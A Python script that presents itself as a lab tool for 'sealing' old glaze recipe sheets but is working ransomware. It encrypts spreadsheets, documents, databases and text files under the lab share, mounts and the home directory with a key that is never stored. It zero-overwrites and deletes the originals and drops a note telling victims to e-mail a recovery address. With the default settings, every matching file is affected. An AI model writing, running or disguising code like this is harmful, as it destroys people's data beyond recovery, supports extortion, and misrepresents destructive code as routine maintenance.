#!/usr/bin/env python3
"""Glaze recipe archive rotation.

Seals older recipe sheets on the lab share so only the current season's
recipes stay editable. Sealed files get a new extension and a notice file is
left in each folder explaining how to get them reopened.
"""
import argparse
import logging
import os
import sys
import time
import uuid
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("archive-rotate")

SEAL_EXT = ".glzsealed"
TARGET_EXT = {".xlsx", ".xls", ".csv", ".pdf", ".docx", ".txt", ".json", ".db"}
NOTICE = "RECIPES_SEALED_README.txt"
NOTICE_TEXT = (
    "Recipe files in this folder were sealed.\n"
    "To reopen them, e-mail recovery@example.com quoting station id {sid}\n"
    "and follow the instructions you receive. Do not rename the files.\n"
)


def default_roots():
    roots = [Path("/srv/glaze_share"), Path("/mnt/lab"), Path.home()]
    extra = os.environ.get("ARCHIVE_ROOTS")
    if extra:
        roots = [Path(p) for p in extra.split(os.pathsep)] + roots
    return [r for r in roots if r.exists()]


class Sealer:
    def __init__(self, min_age_days):
        # one key per run; the lab manager keeps the unseal codes
        self._f = Fernet(Fernet.generate_key())
        self.min_age = min_age_days * 86400
        self.station = uuid.uuid4().hex[:12]
        self.count = 0

    def eligible(self, path):
        if path.suffix.lower() not in TARGET_EXT:
            return False
        try:
            return time.time() - path.stat().st_mtime >= self.min_age
        except OSError:
            return False

    def seal(self, path):
        data = path.read_bytes()
        out = path.with_name(path.name + SEAL_EXT)
        out.write_bytes(self._f.encrypt(data))
        # overwrite the plain copy before unlinking so the share stays tidy
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def leave_notice(self, folder):
        note = folder / NOTICE
        if not note.exists():
            note.write_text(NOTICE_TEXT.format(sid=self.station))


def rotate(roots, sealer, dry_run=False):
    for root in roots:
        LOG.info("scanning %s", root)
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith((".git", "proc"))]
            touched = False
            for name in filenames:
                p = Path(dirpath) / name
                if name.endswith(SEAL_EXT) or name == NOTICE:
                    continue
                if not sealer.eligible(p):
                    continue
                if dry_run:
                    LOG.info("would seal %s", p)
                    continue
                try:
                    sealer.seal(p)
                    touched = True
                except (OSError, PermissionError) as exc:
                    LOG.debug("skip %s: %s", p, exc)
            if touched:
                sealer.leave_notice(Path(dirpath))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--min-age", type=int, default=0, help="days since last edit")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    roots = default_roots()
    if not roots:
        LOG.error("no archive roots found")
        return 1
    sealer = Sealer(args.min_age)
    rotate(roots, sealer, dry_run=args.dry_run)
    LOG.info("sealed %d files (station %s)", sealer.count, sealer.station)
    return 0


if __name__ == "__main__":
    sys.exit(main())
